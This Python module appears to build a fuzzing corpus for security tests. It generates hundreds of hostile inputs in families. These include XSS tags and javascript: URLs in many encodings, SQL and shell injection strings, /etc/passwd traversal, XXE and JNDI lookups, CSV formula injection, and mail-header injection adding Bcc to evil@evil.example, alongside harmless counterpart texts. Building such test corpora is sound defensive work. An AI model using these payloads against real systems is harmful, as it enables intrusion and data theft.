"""Names and texts of people who mean no good: families of payloads, made by a few rules, each at least once.

TEXTS are Unicode text, RAW are bytes that are none. HARMLESS are their twins: texts of the same shapes (one line, several, long, an address)
that no page can stumble over. A payload that runs sets window.hacked or asks for something at evil.example."""
import base64
import urllib.parse

RUN = 'window.hacked=1'
IMAGE = '<img src=x onerror=%s>' % RUN


def elements():
    for text in ('<script>!</script>', '<ScRiPt>!</sCrIpT>', '<script\t>!</script\n>', '<script/x>!</script>', '<<script>!//<</script>', '<script>!',
                 '<script src=//evil.example/x.js></script>', '<script src="data:text/javascript,!"></script>', '<script type=module>!</script>',
                 '<scr<script>ipt>!</scr</script>ipt>', '<script>/*</script><script>*/!</script>', '<noscript><p title="</noscript>@"></noscript>',
                 '@', '<img src=x:x onerror=!//', '<img/src="x"/onerror="!">', "<img src='x' onerror='!'>", '<img src=`x` onerror=`!`>', '<IMG SRC=x OnErRoR=!>',
                 '<img src=//evil.example/p.png>', '<img srcset="//evil.example/p.png 1x">', '<img """><script>!</script>">', '<image src=x onerror=!>',
                 '<svg onload=!>', '<svg/onload=!>', '<svg><script>!</script></svg>', '<svg><script href="data:,!"/></svg>', '<svg><a xlink:href="javascript:!"><text y=9>x</text></a></svg>',
                 '<svg><animate onbegin=! attributeName=x dur=1s>', '<svg><set attributeName=href to=javascript:! /></svg>', '<svg><use href="data:image/svg+xml,x#y"/></svg>',
                 '<svg><foreignObject><body onload=!></foreignObject></svg>', '<math><mtext><script>!</script></mtext></math>', '<math href="javascript:!">x</math>',
                 '<iframe src="javascript:!"></iframe>', '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>', '<iframe src=//evil.example></iframe>', '<iframe onload=!>',
                 '<object data="javascript:!"></object>', '<object data=//evil.example></object>', '<embed src="javascript:!">', '<embed src=//evil.example/x.swf>',
                 '<applet code=x></applet>', '<frameset onload=!><frame src=x></frameset>', '<body onload=!>', '<body background=//evil.example/b>', '<html onmouseover=!>',
                 '<base href="//evil.example/">', '<link rel=stylesheet href=//evil.example/x.css>', '<link rel=prefetch href=//evil.example/x>', '<link rel=import href=//evil.example>',
                 '<meta http-equiv=refresh content="0;url=//evil.example">', '<meta http-equiv="Set-Cookie" content="a=b">', '<meta charset=utf-7>',
                 '<style>*{background:url(//evil.example/c)}</style>', '<style>@import "//evil.example/x.css";</style>', '<div style="background:url(//evil.example/d)">x</div>',
                 '<p style=position:fixed;inset:0>x</p>', '<table background=//evil.example/t><tr><td>x', '<form action=//evil.example><button>Send</button></form>',
                 '<button form=letter formaction=//evil.example>x</button>', '<input autofocus onfocus=!>', '<input type=image src=x onerror=!>', '<select autofocus onfocus=!>',
                 '<textarea autofocus onfocus=!>', '<keygen autofocus onfocus=!>', '<details open ontoggle=!>', '<dialog open onclose=!>x</dialog>', '<marquee onstart=!>x</marquee>',
                 '<video><source onerror=!></video>', '<video src=//evil.example/v poster=//evil.example/p></video>', '<audio src=x onerror=!>', '<track src=//evil.example/t>',
                 '<a href="javascript:!">x</a>', '<a href=//evil.example ping=//evil.example/p>x</a>', '<a autofocus tabindex=1 onfocus=! href=#>x</a>', '<area href=javascript:!>',
                 '<x onclick=!>x</x>', '<x contenteditable autofocus onfocus=!>x</x>', '<x style=animation:y onanimationstart=!>x', '<template><script>!</script></template>',
                 '<slot onslotchange=!></slot>', '<portal src=//evil.example>', '<isindex action=javascript:! type=submit>', '<plaintext>', '<xmp><p title="</xmp>@">',
                 '<listing>@</listing>', '<title>@</title>', '<noembed>@</noembed>', '<b>bold', '</main></body></html>', '<br/><hr/>', '<', '<>', '< script>!</ script>', '</', '<a<b<c'):
        yield text.replace('!', RUN).replace('@', IMAGE)


def breakouts():
    """Out of where a text may stand, in each style of quotes."""
    for before in ('"', "'", '`', '">', "'>", '`>', '"/>', '\\"', "\\'", '&quot;>', '" ', '"\n', '</textarea>', '</title>', '</option></select>', '</button></form>', '</a>', '</bdi>',
                   '</script>', '</style>', '</svg>', '</dd></dl>', '</li></ul>', '</td></tr></table>', '</details>', '-->', '--!>', ']]>', '?>', '*/'):
        yield before + IMAGE
    for quote in ('"', "'", '`', ' ', '/', '\t', '\n', '"a=', "'a="):
        for handler in ('onmouseover', 'onfocus', 'OnClick', 'onpointerrawupdate'):
            yield 'x%s%s=%s%s%s autofocus tabindex=1 x=%s' % (quote, handler, quote.strip() or '', RUN, quote.strip() or '', quote)
    for attribute in ('style="background:url(//evil.example/s)', 'srcdoc="x', 'formaction="javascript:%s' % RUN, 'id="letter', 'name="form', 'data-live="main', 'hidden x="', 'is="x'):
        yield '" ' + attribute


def addresses():
    for scheme in ('javascript:', 'JaVaScRiPt:', ' javascript:', '\tjavascript:', 'java\tscript:', 'java\nscript:', 'javascript&colon;', 'javascript&#58;', 'javascript%3A', 'javascript://x%0A',
                   'javascript:/*https://x*/', 'https:javascript:', 'vbscript:', 'livescript:', 'data:text/javascript,', 'view-source:javascript:', 'feed:javascript:', 'jar:javascript:'):
        yield scheme + RUN
    for kind in ('text/html', 'image/svg+xml', 'text/xml', 'application/xhtml+xml', ''):
        yield 'data:%s,%s' % (kind, IMAGE)
        yield 'data:%s;base64,%s' % (kind, base64.b64encode(IMAGE.encode()).decode())
    yield from ('//evil.example/', '///evil.example', '/\\evil.example', '\\\\evil.example\\x', 'https:/\\evil.example', 'https://evil.example/"onclick=%s' % RUN, 'https://www.linkedin.com@evil.example/',
                'https://evil.example#@www.linkedin.com', 'http://[::1', 'http://127.0.0.1:1/?enter=x', 'file:///etc/passwd', 'blob:x', 'about:blank', 'mailto:a@b?bcc=evil@evil.example&body=x',
                'tel:*21*5550100#', 'ftp://evil.example', 'https://evil.example/\u2028x', 'ｊａｖａｓｃｒｉｐｔ:x')


def encodings():
    """The same image, in what somebody may decode once too often."""
    yield ''.join('&#%d;' % ord(c) for c in IMAGE)
    yield ''.join('&#x%X;' % ord(c) for c in IMAGE)
    yield ''.join('&#%07d' % ord(c) for c in IMAGE)
    yield ''.join('\\x%02x' % ord(c) for c in IMAGE)
    yield ''.join('\\u%04x' % ord(c) for c in IMAGE)
    yield ''.join('\\u{%x}' % ord(c) for c in IMAGE)
    yield ''.join('%%u%04x' % ord(c) for c in IMAGE)
    yield ''.join('%%%02x' % ord(c) for c in IMAGE)
    yield ''.join('%%25%02x' % ord(c) for c in IMAGE)
    yield ''.join('\\%o' % ord(c) for c in IMAGE)
    yield ''.join('=%02X' % ord(c) for c in IMAGE)
    yield ''.join(chr(ord(c) + 0xfee0) if c != ' ' else c for c in IMAGE)
    yield ''.join(chr(0xe0000 + ord(c)) for c in IMAGE)
    yield base64.b64encode(IMAGE.encode()).decode()
    yield '+ADw-img src+AD0-x onerror+AD0-%s+AD4-' % RUN
    yield '=?utf-8?B?%s?=' % base64.b64encode(IMAGE.encode()).decode()
    yield '=?utf-8?Q?%s?=' % urllib.parse.quote(IMAGE, safe='').replace('%', '=')
    for left, right in (('&lt;', '&gt;'), ('&LT;', '&GT;'), ('&lt', '&gt'), ('&amp;lt;', '&amp;gt;'), ('&amp;amp;lt;', '&amp;amp;gt;'), ('%C0%BC', '%C0%BE'), ('%E0%80%BC', '%E0%80%BE'), ('\u2039', '\u203a'),
                        ('\u3008', '\u3009'), ('\u02c2', '\u02c3'), ('¼', '¾'), ('\ufe64', '\ufe65')):
        yield left + IMAGE[1:-1] + right
    yield from ('&quot; onfocus=%s x=&quot;' % RUN, '&#34;&#39;&#96;', '&', '&;', '&#;', '&#x;', '&#0;', '&#xD800;', '&#99999999999;', '&nbsp', '&notit;', '%', '%%', '%0', '%zz', '%u', '+', '%00', '%0d%0aX: y', '%252e%252e%252f')


def others():
    """Comments, templates, SQL, headers, shells, paths, tables, formats: each in the tongue of something behind."""
    yield from ('<!--', '-->', '<!-->@', '<!--><script>%s</script>-->' % RUN, '<!--[if IE]>x<![endif]-->', '<![CDATA[<script>%s</script>]]>' % RUN, ']]>', '<?xml version="1.0"?>', '<?php echo 7; ?>',
                '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;', '<!ENTITY % z SYSTEM "http://evil.example/z">', '<!')
    yield from ('{{7*7}}', '${7*7}', '#{7*7}', '<%= 7*7 %>', '{%x%}', '{#x#}', '@(7*7)', '[[7*7]]', '*{7*7}', '~{x}', '$(7*7)', '{{constructor.constructor("%s")()}}' % RUN, '${%s}' % RUN, '{name}', '{{name}}', '$name', '%(name)s', '{0}', '{0.__class__}',
                '%s%s%s%s', '%n%n%n', '%x', '%1$*2$d', '%.99999f', '%p%hhn')
    yield from ("' OR '1'='1", "'; DROP TABLE process;--", "Robert'); DELETE FROM person;--", "' UNION SELECT * FROM sqlite_master--", '" OR ""="', '1;ATTACH DATABASE "x" AS x', "x' AND 1=load_extension('x')--", '\\%_', '%', '_', '*', '"a" NEAR "b"',
                'a OR b NOT c', 'NULL', "x''", '$1', '?1', ':a', '/*x*/', '--')
    for line in ('Set-Cookie: a=b', 'Location: //evil.example', 'Content-Length: 0', 'Content-Type: text/html', '\r\n<script>%s</script>' % RUN):
        yield 'x\r\n' + line
        yield 'x\n' + line
        yield 'x\r' + line
        yield 'x\u560d\u560a' + line
    yield from ('x\r\nBcc: evil@evil.example', 'x\nBcc: evil@evil.example', 'a@b.example, evil@evil.example', 'a@b.example>\r\nRCPT TO:<evil@evil.example', '"x" <evil@evil.example>', 'x\r\n.\r\nMAIL FROM:<evil@evil.example>', '.', '..', '\n.\n', 'a@b\n\nbody',
                'Subject: x\n\nx', '--boundary--', 'From x', '\nFrom evil@evil.example Mon Nov 23 00:00:00 2026', '(comment) a@b.example', '@a,@b:c@d.example', 'group:a@b.example;')
    yield from ('x\r\nEND:VEVENT\r\nBEGIN:VEVENT', 'x\nATTENDEE:mailto:evil@evil.example', 'x\\nEND:VCALENDAR', 'x\\,y\\;z\\', 'END:VCALENDAR', 'x\r\n END:VEVENT', 'x;ALTREP="http://evil.example":y', 'BEGIN:VALARM', 'x\u2028END:VEVENT', 'x\u0085END:VEVENT', ':;,"^n^\'')
    yield from ('=1+1', '+1+1', '-1+1', '@SUM(1)', "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","x")', '\t=1+1', '"=1+1', 'a,b\n=1', ';=1+1', '|=1')
    yield from ('$(touch hacked)', '`touch hacked`', '; touch hacked', '| touch hacked', '&& touch hacked', '> hacked', '-rf', '--help', '--database=/tmp/x', '$HOME', '~', '~root', '!!', '\\', '\\n', "'\"`", '*?[a-z]', '${IFS}')
    yield from ('../../../../etc/passwd', '..\\..\\x', '/etc/passwd', '....//....//x', '.../x', './x', '..;/x', '..%2f..%2fx', '%2e%2e/x', 'a/../b', 'a//b', '/', '//', 'C:\\x', 'CON', 'x.eml\\0.pdf', '.htaccess', 'a' * 300 + '/x', '?q=1', '#x', 'x?form=y', ';x=y', '~1', '~..')
    yield from ('null', 'undefined', 'NaN', 'true', '__proto__', 'constructor', 'toString', '{"a":1}', '"}', '\\u0000', '[', '0', '-1', '1e999', '99999999999999999999', '0x10', '१२३', '')
    yield from ('${jndi:ldap://evil.example/x}', '*)(uid=*', '(' * 60, '[' * 60, '(a+)+$', 'a' * 90 + '!')


def characters():
    """Control characters, directions, what is not seen, what is put together, what is long."""
    for code in (0x00, 0x01, 0x07, 0x08, 0x0b, 0x0c, 0x0e, 0x1a, 0x1b, 0x1f, 0x7f, 0x80, 0x85, 0x9b, 0x9f):
        yield 'con%strol' % chr(code)
    for code in (0xad, 0x61c, 0x115f, 0x180e, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x2028, 0x2029, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2060, 0x2066, 0x2067, 0x2068, 0x2069, 0x3000, 0x3164, 0xfe0f, 0xfeff, 0xfff9, 0xfffc, 0xfffd, 0xfffe, 0xffff,
                 0x1d173, 0xe0001, 0xe0041, 0xf0000, 0x10ffff):
        yield 'not%sseen' % chr(code)
    yield from ('\u202egpj.exe', '\u2067' * 20, '\u202e' + IMAGE, 'a' + '\u0301' * 200, '\u1f469\u200d\U0001f469', 'שלום <b>', 'İıſK', '\u0130' * 40, 'ß' * 20, '\ufdfa' * 20, 'ﬁ', '\t', '\n', '\n\n\n', ' ', '\u00a0', 'x ' * 200,
                'w' * 999, '<' * 300, '&' * 300, '"' * 300, "'" * 300, '\u4e00' * 300, 'é' * 450, 'line\n' * 60, '𝕏' * 200)


TEXTS = list(dict.fromkeys(text for family in (elements, breakouts, addresses, encodings, others, characters) for text in family() if text))
# A control character is in no text that somebody types: these are refused wherever they stand.
REFUSED = [text for text in TEXTS if any(ord(c) < 0x20 and c not in '\t\n\r' or ord(c) == 0x7f for c in text)]
TAKEN = [text for text in TEXTS if text not in REFUSED]
RAW = [b'\x80', b'\xbf', b'\xc0\xbc', b'\xc0\xaf', b'\xc1\xbf', b'\xe0\x80\xbc', b'\xe0\x9f\xbf', b'\xf0\x80\x80\xbc', b'\xf8\x80\x80\x80\xbc', b'\xfc\x80\x80\x80\x80\xbc', b'\xed\xa0\x80', b'\xed\xbf\xbf', b'\xed\xa0\x80\xed\xb0\x80',
       b'\xf4\x90\x80\x80', b'\xfe', b'\xff', b'\xff\xfe<\x00', b'caf\xc3', b'caf\xe9', b'\xc3\xc3', b'\xf0\x9f\x98', b'\xe2\x80', b'\xc3"onfocus=1', b'\xe0"><b>', b'+ADw-\xff', b'\x00', b'a\x00b', b'\x1b[31m']
HARMLESS = ['word', 'two words', 'a line\nand another', 'three\n\nparagraphs\n\nof text', 'https://good.example/in/x', 'long ' * 190, 'v' * 999, 'x@good.example', '17', '555 0100', 'Fri', '  ', 'x.example/a?b=c&d#e']
assert len(TEXTS) >= 300, len(TEXTS)

if __name__ == '__main__':
    import json
    print(json.dumps({'texts': TEXTS, 'taken': TAKEN, 'harmless': HARMLESS}))
